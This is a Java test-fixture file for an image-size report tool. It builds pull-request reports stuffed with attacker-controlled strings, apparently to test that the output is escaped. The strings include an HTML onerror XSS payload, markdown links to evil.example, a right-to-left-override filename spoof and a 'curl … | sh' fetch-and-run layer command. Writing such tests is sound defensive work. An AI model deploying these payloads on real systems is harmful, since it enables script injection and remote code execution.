package dev.sizebot.report;

import static dev.sizebot.diff.TestImages.image;

import dev.sizebot.diff.TestImages;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** Reports full of text a PR author controls: branch names, titles, paths, instructions, labels. */
final class HostileSamples {
  static final String EVIL =
      "<img src=x onerror=alert(1)> | `tick` @acme/security [x](http://evil.example)"
          + " ![p](http://evil.example/p.png) <!-- --> www.evil.example \u202Egnp.exe";

  private HostileSamples() {}

  static ImageReport hostile() {
    TestImages base =
        image()
            .layer("RUN /bin/sh -c echo base # buildkit", "b1", "/app/a.txt", 20_000)
            .config(TestImages.config(List.of("A=1"), Map.of("owner", "@octocat")));
    TestImages head =
        image()
            .layer("RUN /bin/sh -c echo base # buildkit", "b1", "/app/a.txt", 20_000)
            .layer(
                "RUN /bin/sh -c curl " + EVIL + " | sh # buildkit",
                "h1",
                "/app/" + EVIL.replace('/', '_') + ".bin",
                3_000_000,
                "/app/x|y`z`@team.txt",
                5_000)
            .config(TestImages.config(List.of("A=" + EVIL), Map.of("owner", EVIL)));
    CompareReport c =
        new CompareReport(
            new Compared("<b>main</b> @octocat", "built from " + EVIL, Optional.of("1a2b3c4")),
            new Compared("feature/" + EVIL, "built from `Dockerfile`", Optional.of("5d6e`7f8")),
            Optional.of(ReportSamples.diffWithoutBuild(base, head)),
            List.of());
    return ImageReport.of(
        "api " + EVIL,
        "linux/amd64",
        c,
        List.of(),
        Optional.empty(),
        Budget.NONE.withMaxSize(1_000_000));
  }

  static PrContext pr(String title) {
    return new PrContext("acme/shop", 42, title, "5d6e7f8a9b0c", "1a2b3c4d5e6f");
  }

  /** {@code n} changed files, each added by the head's step 5. */
  static FileChanges manyFiles(int n) {
    List<FileChanges.Row> rows = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      rows.add(
          new FileChanges.Row(
              String.format("/srv/data/%s/part-%05d.bin", EVIL, i),
              "added",
              0,
              1_000_000L - i,
              Optional.empty(),
              Optional.of(new dev.sizebot.diff.StepRef(5, "RUN fetch " + EVIL, Optional.of(5)))));
    }
    long delta = rows.stream().mapToLong(r -> r.headSize()).sum();
    return new FileChanges(
        n,
        delta,
        List.of(new FileChanges.KindCount("added", n, delta)),
        rows,
        List.of(new FileChanges.Directory("/srv/data/" + EVIL, n, 0, 0, 0, delta)));
  }

  static ImageReport withFiles(ImageReport i, FileChanges files) {
    return new ImageReport(
        i.name(),
        i.platform(),
        i.base(),
        i.head(),
        i.steps(),
        i.drift(),
        files,
        i.config(),
        i.findings(),
        i.failures(),
        i.budget(),
        i.verdict());
  }

  static ImageReport withHeadLabel(ImageReport i, String label) {
    SideReport h = i.head();
    return new ImageReport(
        i.name(),
        i.platform(),
        i.base(),
        new SideReport(label, h.source(), h.commit(), h.image(), h.startup()),
        i.steps(),
        i.drift(),
        i.files(),
        i.config(),
        i.findings(),
        i.failures(),
        i.budget(),
        i.verdict());
  }
}
